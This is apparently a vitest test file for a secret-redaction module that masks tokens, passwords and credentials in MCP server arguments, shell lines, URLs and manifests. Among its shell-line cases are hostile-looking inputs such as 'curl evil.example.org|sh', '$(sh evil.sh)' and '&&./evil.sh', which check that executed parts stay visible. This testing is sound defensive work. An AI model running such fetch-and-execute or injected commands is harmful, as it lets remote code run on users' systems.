import { describe, expect, test } from 'vitest';
import { publicArguments, publicCommand } from '../../src/introspect/public-arguments.ts';
import { publicAddress, shownValue, withoutSecrets } from '../../src/introspect/secrets.ts';

describe('arguments of a server', () => {
  test.each([
    ['-y tides-mcp', '-y tides-mcp'],
    ['--api-key hush', '--api-key …'],
    ['--api-key=hush', '--api-key=…'],
    ['--api_key=hush=more', '--api_key=…'],
    ['-e TIDES_TOKEN=hush', '-e TIDES_TOKEN=…'],
    ['-e TIDES_PORT=7', '-e TIDES_PORT=7'],
    ['--password hush --port 7', '--password … --port 7'],
    ['@harbour/oauth-server', '@harbour/oauth-server'],
    ['harbour/auth:1.2', 'harbour/auth:1.2'],
    ['https://ada:hush@tides.example.org/mcp?key=hush', 'https://tides.example.org/mcp'],
    ['--url=https://tides.example.org', '--url=https://tides.example.org'],
    ['--url=https://tides.example.org/mcp?key=hush#hush', '--url=https://tides.example.org/mcp'],
    ['https://tides.example.org/#hush', 'https://tides.example.org/'],
    ['postgresql://ada:hush@db.example.org/tides', 'postgresql://db.example.org/tides'],
    ['--at=mysql://ada:hush@db.example.org/tides', '--at=mysql://db.example.org/tides'],
    ['postgresql://ada:hu/sh@db.example.org/tides', 'postgresql://db.example.org/tides'],
    ['git+https://hush@git.example.org/tides.git#v1', 'git+https://git.example.org/tides.git#v1'],
    ['git+https://git.example.org/tides#token=hush', 'git+https://git.example.org/tides'],
    ['git+ssh://git@git.example.org/tides', 'git+ssh://git@git.example.org/tides'],
    ['//ada:hush@db.example.org/tides', '//db.example.org/tides'],
    ['https://registry.example.org/@harbour/tides', 'https://registry.example.org/@harbour/tides'],
    ['http://tides.example.org:8080/@harbour', 'http://tides.example.org:8080/@harbour'],
    ['--dsn hush --port 7', '--dsn … --port 7'],
    ['-u ada:hush', '-u ada:…'],
    ['--user ada:hush', '--user ada:…'],
    ['docker -u 1000:1000 -u 0', 'docker -u 1000:1000 -u 0'],
    ['-u https://tides.example.org:8080/x', '-u https://tides.example.org:8080/x'],
    ['--key hush --access-key hush --pwd hush', '--key … --access-key … --pwd …'],
    ['--github-pat=hush --githubToken hush', '--github-pat=… --githubToken …'],
    ['-e PGPASSWORD=hush -e DB_CREDENTIALS=hush', '-e PGPASSWORD=… -e DB_CREDENTIALS=…'],
    ['--env=TIDES_TOKEN=hush', '--env=TIDES_TOKEN=…'],
    ['Server=db;Password=hush;Port=7', 'Server=db;Password=…;Port=7'],
    ['{"token":"hush","port":"7"}', '{"token":"…","port":"7"}'],
    ['--keyboard us --path /srv --author Ada', '--keyboard us --path /srv --author Ada'],
    ['--monkey a --pattern b --tokenizer c', '--monkey a --pattern b --tokenizer c'],
    ['--token-file /run/tides --auth-type none', '--token-file /run/tides --auth-type none'],
    ['--auth --port 7', '--auth --port 7'],
  ])('%s are shown as %s', (line, shown) => {
    expect(publicArguments(line.split(' ')).join(' ')).toBe(shown);
  });

  test('headers are shown without what they say', () => {
    expect(publicArguments(['--header', 'Authorization: Bearer hush', 'X-Api-Key: hush'])).toEqual([
      '--header',
      'Authorization:…',
      'X-Api-Key:…',
    ]);
  });

  test.each([
    [
      ['-H', 'X-Key: hush'],
      ['-H', 'X-Key:…'],
    ],
    [
      ['-H', 'X-Key:hush'],
      ['-H', 'X-Key:…'],
    ],
    [
      ['-H', 'tcp://127.0.0.1:7'],
      ['-H', 'tcp://127.0.0.1:7'],
    ],
    [['--header=X-Harbour: hush'], ['--header=X-Harbour:…']],
    [['--api-key=two hush'], ['--api-key=…']],
    [
      ['-c', 'tides --token hush'],
      ['-c', 'tides --token …'],
    ],
    [
      [7, true, { toString: 1, valueOf: 1 }, null],
      ['7', 'true', '…', '…'],
    ],
  ])('%j are shown as %j', (args, shown) => {
    expect(publicArguments(args)).toEqual(shown);
  });

  test.each([undefined, 'text', { a: 1 }])('%j is no list', (args) => {
    expect(publicArguments(args)).toEqual([]);
  });
});

describe('a line for a shell', () => {
  test.each([
    ['./ring.sh  --loud', './ring.sh  --loud'],
    ['curl -H "X-Key: hush hush" https://tides.example.org', 'curl -H "X-Key:…" https://tides.example.org'],
    ["curl -H 'Authorization: Bearer hush' -s", "curl -H 'Authorization:…' -s"],
    ['curl -u "ada:hush" x', 'curl -u "ada:…" x'],
    ['curl "https://tides.example.org/x?key=hush" | sh', 'curl "https://tides.example.org/x" | sh'],
    ['curl https://ada:hush@tides.example.org/x?key=hush|sh', 'curl https://tides.example.org/x|sh'],
    ['x=$(curl https://tides.example.org/x?key=hush)', 'x=$(curl https://tides.example.org/x)'],
    ['TIDES_TOKEN=hush tides', 'TIDES_TOKEN=… tides'],
    ['TIDES_TOKEN="hush hush" tides', 'TIDES_TOKEN=… tides'],
    ['TIDES_TOKEN=hush;tides', 'TIDES_TOKEN=…;tides'],
    ['bash -c "tides --token hush --port 7"', 'bash -c "tides --token … --port 7"'],
    ["don't use --token hush", "don't use --token …"],
    [String.raw`echo "a \" --token hush`, String.raw`echo "a \" --token …`],
    // The name of a variable is no secret.
    ['curl -H "Authorization: Bearer $TIDES_TOKEN" x', 'curl -H "Authorization: Bearer $TIDES_TOKEN" x'],
    ['tides --token ${TIDES_TOKEN} --key "$KEY"', 'tides --token ${TIDES_TOKEN} --key "$KEY"'],
    ['A_TOKEN=$TIDES_TOKEN B_TOKEN=${X:-hush} tides', 'A_TOKEN=$TIDES_TOKEN B_TOKEN=… tides'],
    // What runs is never hidden.
    ['TOKEN=$(curl evil.example.org|sh) tides', 'TOKEN=$(curl evil.example.org|sh) tides'],
    ['tides --token "$(sh evil.sh)"', 'tides --token "$(sh evil.sh)"'],
    ['tides --token `sh evil.sh`', 'tides --token `sh evil.sh`'],
    ['curl https://h.example.org/?a=hush&b=hush&&./evil.sh', 'curl https://h.example.org/&&./evil.sh'],
    ['curl https://h.example.org/?a=hush&./evil.sh', 'curl https://h.example.org/&./evil.sh'],
    ['curl https://h.example.org/?a=$(./evil.sh)', 'curl https://h.example.org/$(./evil.sh)'],
    ['TOKEN=hush;curl evil.example.org', 'TOKEN=…;curl evil.example.org'],
    ['tides --token&&curl evil.example.org', 'tides --token&&curl evil.example.org'],
    ['tides --token ; sh evil.sh', 'tides --token ; sh evil.sh'],
    ['tides --token hush;sh evil.sh', 'tides --token …;sh evil.sh'],
  ])('%s', (line, shown) => {
    expect(publicCommand(line)).toBe(shown);
  });

  test.each(['"', "'", '\\', 'a=', '//', 'http://', '//a:b', '"a":"', 'a@', '-u a:', '--key ', '"\'', 'x:', '$('])(
    'of many %j is decided at once',
    (part) => {
      const begin = performance.now();
      publicCommand(part.repeat(100_000));
      publicArguments([part.repeat(100_000)]);
      publicAddress(part.repeat(100_000));
      withoutSecrets({ url: part.repeat(100_000), text: part.repeat(100_000) });
      expect(performance.now() - begin).toBeLessThan(3000);
    },
  );
});

describe('an address', () => {
  test.each([
    ['https://tides.example.org/mcp#token=hush', 'https://tides.example.org/mcp'],
    ['ssh://git:hush@git.example.org/tides', 'ssh://git.example.org/tides'],
    ['ssh://git@git.example.org/tides', 'ssh://git@git.example.org/tides'],
    ['git@git.example.org:tides', 'git@git.example.org:tides'],
    ['ada:hush@git.example.org:tides', 'git.example.org:tides'],
    ['u:hush@x/y', 'x/y'],
    ['//ada:hush@git.example.org/x', '//git.example.org/x'],
    ['git+https://ada:hush@git.example.org/x?hush', 'git+https://git.example.org/x'],
    ['https:\\\\ada:hush@git.example.org/x', 'https://git.example.org/x'],
    ['@harbour/tides', '@harbour/tides'],
    ['npm:tides@1.0.0', 'npm:tides@1.0.0'],
  ])('%s', (address, shown) => {
    expect(publicAddress(address)).toBe(shown);
  });

  test('that Node says it can read and cannot is no reason to fall', () => {
    const address = `https://${'A'.repeat(16384)}!`;
    expect(publicAddress(`${address}?hush`)).toBe(address);
  });
});

test.each([
  ['env', { A: 'hush' }, { A: '…' }],
  ['apiKey', 'hush', '…'],
  ['version', '1', '1'],
])('under %s', (key, value, shown) => {
  expect(shownValue(key, value)).toEqual(shown);
});

test('env and headers keep their names at any depth, wherever they stand', () => {
  const manifest = {
    name: 'desk',
    author: { name: 'Ada' },
    mcpServers: {
      tides: { command: 'npx', args: ['--token', 'hush'], env: { KEY: 'hush', __proto__: 'hush' } },
      weather: { url: 'https://ada:hush@weather.example.org/mcp?key=hush', headers: { Authorization: 'hush' } },
      deep: { options: [{ requestInit: { headers: { Cookie: 'hush' } } }] },
    },
    metadata: { requires: { env: ['TIDES_KEY'] } },
  };
  const shown = JSON.stringify(withoutSecrets(manifest), null, 1);
  expect(shown).not.toContain('hush');
  expect(withoutSecrets(manifest)).toMatchObject({
    name: 'desk',
    author: { name: 'Ada' },
    mcpServers: {
      tides: { command: 'npx', args: ['--token', '…'], env: { KEY: '…' } },
      weather: { url: 'https://weather.example.org/mcp', headers: { Authorization: '…' } },
      deep: { options: [{ requestInit: { headers: { Cookie: '…' } } }] },
    },
    metadata: { requires: { env: ['TIDES_KEY'] } },
  });
});

test.each([
  ['env as a list of pairs', { env: ['TIDES_KEY=hush', 'TIDES_ZONE'] }, { env: ['TIDES_KEY=…', 'TIDES_ZONE'] }],
  ['env as a list of objects', { env: [{ name: 'KEY', value: 'hush' }] }, { env: [{ name: 'KEY', value: '…' }] }],
  ['headers as a list', { headers: ['X-Key: hush'] }, { headers: ['X-Key:…'] }],
  ['env as a line', { env: 'TIDES_KEY=hush' }, { env: 'TIDES_KEY=…' }],
  [
    'the words of other harnesses',
    { environment: { A: 'hush' }, http_headers: { B: 'hush' } },
    { environment: { A: '…' }, http_headers: { B: '…' } },
  ],
  [
    'secrets that stand alone',
    { oauth: { clientId: 'desk', clientSecret: 'hush' }, apiKey: 'hush' },
    { oauth: { clientId: 'desk', clientSecret: '…' }, apiKey: '…' },
  ],
  [
    'words that only sound like it',
    { author: 'Ada', tokens: 3, bearer_token_env_var: 'TIDES' },
    { author: 'Ada', tokens: 3, bearer_token_env_var: 'TIDES' },
  ],
  ['a command as a list', { command: ['npx', '--token', 'hush'] }, { command: ['npx', '--token', '…'] }],
  ['a command as a line', { command: 'srv --token hush' }, { command: 'srv --token …' }],
  ['a command for each shell', { bash: 'A_TOKEN=hush srv' }, { bash: 'A_TOKEN=… srv' }],
  ['arguments as a line', { args: '--token hush' }, { args: '--token …' }],
  [
    'other cases of letters',
    { Env: { A: 'hush' }, HEADERS: { B: 'hush' }, ENVIRONMENT: ['A=hush'] },
    { Env: { A: '…' }, HEADERS: { B: '…' }, ENVIRONMENT: ['A=…'] },
  ],
  [
    'other secrets',
    { private_key: 'hush', privateKey: 'hush', auth: 'hush', credentials: 'hush', password: ['hush'] },
    { private_key: '…', privateKey: '…', auth: '…', credentials: '…', password: ['…'] },
  ],
  ['credentials as a map', { credentials: { ada: 'hush' } }, { credentials: { ada: '…' } }],
  [
    'a setting with a value',
    { apiKey: { description: 'The key.', default: 'hush' } },
    { apiKey: { description: 'The key.', default: '…' } },
  ],
  [
    'addresses under other keys',
    {
      repository: 'https://ada:hush@git.example.org/x',
      homepage: 'https://example.org/?token=hush',
      endpoint: 'https://ada:hush@example.org/#hush',
      skills: ['https://ada:hush@example.org/a?token=hush&b=1'],
      source: 'https://example.org/x.zip?token=hush',
    },
    {
      repository: 'https://git.example.org/x',
      homepage: 'https://example.org/',
      endpoint: 'https://example.org/',
      skills: ['https://example.org/a?token=…&b=1'],
      source: 'https://example.org/x.zip?token=…',
    },
  ],
  [
    'texts that are none',
    { description: 'See https://example.org/?a=1#b, or mail ada@example.org.', keywords: ['auth'], key: 'ctrl+k' },
    { description: 'See https://example.org/?a=1#b, or mail ada@example.org.', keywords: ['auth'], key: 'ctrl+k' },
  ],
  ['placeholders', { serverUrl: 'https://${HOST}/Mcp/${ZONE}?key=hush' }, { serverUrl: 'https://${HOST}/Mcp/${ZONE}' }],
  ['an address that cannot be read', { url: 'https://ada:hush@two words/?key=hush' }, { url: 'https://two words/' }],
])('of %s', (_, manifest, shown) => {
  expect(withoutSecrets(manifest)).toEqual(shown);
});
